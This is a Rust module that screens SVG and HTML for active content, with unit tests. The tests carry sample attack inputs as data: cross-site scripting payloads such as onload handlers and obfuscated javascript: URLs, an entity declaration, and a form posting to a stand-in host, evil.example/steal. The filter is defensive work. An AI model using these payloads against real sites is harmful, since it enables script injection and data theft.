//! Active content in SVG and HTML: what would run or reach outside when
//! a browser opens the file.

use super::ContentRefusal;

/// Refuses an SVG or HTML text carrying active content, case-insensitively
/// over the whole text: `<script`, `<foreignObject`, `<iframe`, `<frame`,
/// `<embed`, `<object`, `<applet`, `<meta http-equiv`, `<!ENTITY`
/// (entity expansion); any `on…=` event attribute inside a tag; a
/// `javascript:` or `vbscript:` URL anywhere (character references and
/// blanks inside the word do not hide it); an `href`, `xlink:href`, `src`,
/// `action`, `formaction`, `data`, `poster` or `background` attribute that
/// points outside (`http:`, `https:`, `//`) or to a `data:` URL that is not
/// a PNG, JPEG, GIF or WebP image; CSS `@import` or `url(` to an outside
/// address. Refusal `active_content`.
pub fn check_active_content(text: &[u8]) -> Result<(), ContentRefusal> {
    let lower = text.to_ascii_lowercase();
    let contains = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
    const TAGS: &[&[u8]] = &[
        b"<script",
        b"<foreignobject",
        b"<iframe",
        b"<frame",
        b"<embed",
        b"<object",
        b"<applet",
        b"<!entity",
        b"@import",
    ];
    if TAGS.iter().any(|t| contains(&lower, t)) {
        return Err(ContentRefusal::ActiveContent);
    }
    let squeezed = squeeze(&decode_refs(&lower));
    if contains(&squeezed, b"javascript:") || contains(&squeezed, b"vbscript:") {
        return Err(ContentRefusal::ActiveContent);
    }
    for outside in [
        &b"url(http"[..],
        b"url('http",
        b"url(\"http",
        b"url(//",
        b"url('//",
        b"url(\"//",
    ] {
        if contains(&squeezed, outside) {
            return Err(ContentRefusal::ActiveContent);
        }
    }
    for tag in tags(&lower) {
        let (name, attrs) = tag;
        if name == b"meta" && attrs.iter().any(|(n, _)| *n == b"http-equiv") {
            return Err(ContentRefusal::ActiveContent);
        }
        for (attr, value) in attrs {
            let event = attr.len() > 2 && attr.starts_with(b"on") && attr.iter().all(u8::is_ascii_alphabetic);
            if event {
                return Err(ContentRefusal::ActiveContent);
            }
            let url_attr = matches!(
                attr,
                b"href" | b"xlink:href" | b"src" | b"action" | b"formaction" | b"data" | b"poster" | b"background"
            );
            if url_attr && !is_local_reference(&squeeze(&decode_refs(value))) {
                return Err(ContentRefusal::ActiveContent);
            }
        }
    }
    Ok(())
}

/// A URL that stays inside the document: a fragment, a relative path, or
/// an inline raster image.
fn is_local_reference(v: &[u8]) -> bool {
    const IMAGES: &[&[u8]] = &[
        b"data:image/png",
        b"data:image/jpeg",
        b"data:image/jpg",
        b"data:image/gif",
        b"data:image/webp",
    ];
    if v.starts_with(b"//") {
        return false;
    }
    // A scheme is letters, digits, `+`, `-`, `.` before the first `:`.
    let scheme_end = v
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || b"+-.".contains(b)));
    match scheme_end {
        Some(i) if i > 0 && v[i] == b':' => IMAGES.iter().any(|p| v.starts_with(p)),
        _ => true,
    }
}

/// A tag's name and its attributes (name, raw value).
type Tag<'a> = (&'a [u8], Vec<(&'a [u8], &'a [u8])>);

/// Each tag's name and attributes, from lower-cased markup. Quoted values
/// may hold `>`.
fn tags(s: &[u8]) -> Vec<Tag<'_>> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(off) = s[i..].iter().position(|&b| b == b'<') {
        i += off + 1;
        let name_end = s[i..]
            .iter()
            .position(|b| !(b.is_ascii_alphanumeric() || b":-_".contains(b)))
            .map_or(s.len(), |p| i + p);
        if name_end == i {
            continue;
        }
        let name = &s[i..name_end];
        i = name_end;
        let mut attrs = Vec::new();
        loop {
            while i < s.len() && (s[i].is_ascii_whitespace() || s[i] == b'/') {
                i += 1;
            }
            if i >= s.len() || s[i] == b'>' || s[i] == b'<' {
                break;
            }
            let start = i;
            while i < s.len() && !(s[i].is_ascii_whitespace() || b"=>/<".contains(&s[i])) {
                i += 1;
            }
            let attr = &s[start..i];
            while i < s.len() && s[i].is_ascii_whitespace() {
                i += 1;
            }
            let mut value: &[u8] = &[];
            if i < s.len() && s[i] == b'=' {
                i += 1;
                while i < s.len() && s[i].is_ascii_whitespace() {
                    i += 1;
                }
                if i < s.len() && (s[i] == b'"' || s[i] == b'\'') {
                    let quote = s[i];
                    let end = s[i + 1..]
                        .iter()
                        .position(|&b| b == quote)
                        .map_or(s.len(), |p| i + 1 + p);
                    value = &s[i + 1..end];
                    i = (end + 1).min(s.len());
                } else {
                    let start = i;
                    while i < s.len() && !(s[i].is_ascii_whitespace() || s[i] == b'>') {
                        i += 1;
                    }
                    value = &s[start..i];
                }
            }
            if attr.is_empty() {
                i += 1;
            } else {
                attrs.push((attr, value));
            }
        }
        out.push((name, attrs));
    }
    out
}

/// Numeric character references (`&#106;`, `&#x6A;`, with or without the
/// `;`) and `&colon;`, `&tab;`, `&newline;` decoded; the result lower-cased.
fn decode_refs(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'&' {
            let rest = &s[i + 1..];
            let named: &[(&[u8], u8)] = &[(b"colon;", b':'), (b"tab;", b'\t'), (b"newline;", b'\n')];
            if let Some((n, c)) = named.iter().find(|(n, _)| rest.starts_with(n)) {
                out.push(*c);
                i += 1 + n.len();
                continue;
            }
            if let Some(num) = rest.strip_prefix(b"#") {
                let (hex, digits) = match num.first() {
                    Some(b'x') => (true, &num[1..]),
                    _ => (false, num),
                };
                let len = digits
                    .iter()
                    .take_while(|b| if hex { b.is_ascii_hexdigit() } else { b.is_ascii_digit() })
                    .count();
                let value = std::str::from_utf8(&digits[..len])
                    .ok()
                    .and_then(|d| u32::from_str_radix(d, if hex { 16 } else { 10 }).ok())
                    .and_then(char::from_u32);
                if let (Some(c), true) = (value, len > 0) {
                    out.extend(c.to_lowercase().to_string().bytes());
                    let consumed = 1 + usize::from(hex) + len;
                    i += 1 + consumed + usize::from(digits.get(len) == Some(&b';'));
                    continue;
                }
            }
        }
        out.push(s[i].to_ascii_lowercase());
        i += 1;
    }
    out
}

/// Without blank space and control characters (browsers skip them inside
/// a URL scheme: `java\tscript:`).
fn squeeze(s: &[u8]) -> Vec<u8> {
    s.iter()
        .copied()
        .filter(|b| !(b.is_ascii_whitespace() || b.is_ascii_control()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_svg_and_html_pass() {
        let clean: &[&str] = &[
            r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="10" height="10" fill="url(#g)"/><use xlink:href="#a"/></svg>"##,
            r#"<svg><image href="data:image/png;base64,iVBORw0KGgo="/><text>Data: 5 points, one = two</text></svg>"#,
            r#"<!DOCTYPE html><html><head><title>My page</title><style>p { color: red }</style></head><body><a href="page2.html">next</a><img src="img/a.png" alt="onion"></body></html>"#,
            r#"<html><body><p>Online = offline?</p></body></html>"#,
        ];
        for text in clean {
            assert_eq!(check_active_content(text.as_bytes()), Ok(()), "{text}");
        }
    }

    #[test]
    fn active_content_in_svg_or_html_is_refused() {
        let active: &[&str] = &[
            r#"<svg><script>alert(1)</script></svg>"#,
            r#"<svg><SCRIPT xlink:href="x.js"/></svg>"#,
            r#"<svg onload="alert(1)"></svg>"#,
            r#"<svg/onload=alert(1)>"#,
            r#"<svg><rect ONCLICK = 'x()'/></svg>"#,
            r#"<svg><a href="javascript:alert(1)">x</a></svg>"#,
            r#"<svg><a href="  JaVaScRiPt:alert(1)">x</a></svg>"#,
            r#"<svg><a href="java&#x09;script:alert(1)">x</a></svg>"#,
            r#"<svg><a href="&#106;avascript&colon;alert(1)">x</a></svg>"#,
            r#"<svg><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
            r#"<svg><foreignObject><div>x</div></foreignObject></svg>"#,
            r#"<html><body><iframe src="x.html"></iframe></body></html>"#,
            r#"<html><body><embed src="movie.swf"></body></html>"#,
            r#"<html><body><object data="x.pdf"></object></body></html>"#,
            r#"<svg><image xlink:href="http://tracker.example/p.png"/></svg>"#,
            r#"<svg><image href="https://cdn.example/p.png"/></svg>"#,
            r#"<svg><image href="//cdn.example/p.png"/></svg>"#,
            r#"<svg><image href="data:image/svg+xml;base64,PHN2Zz4="/></svg>"#,
            r#"<html><body><a href=http://example.org>x</a></body></html>"#,
            r#"<html><head><meta http-equiv="refresh" content="0;url=x"></head></html>"#,
            r#"<svg><style>@import "x.css";</style></svg>"#,
            r#"<svg><rect style="fill:url( 'https://t.example/x' )"/></svg>"#,
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY lol \"lol\">]><svg>&lol;</svg>",
            r#"<html><body><form action="https://evil.example/steal"><input></form></body></html>"#,
        ];
        for text in active {
            assert_eq!(
                check_active_content(text.as_bytes()),
                Err(ContentRefusal::ActiveContent),
                "{text}"
            );
        }
    }
}
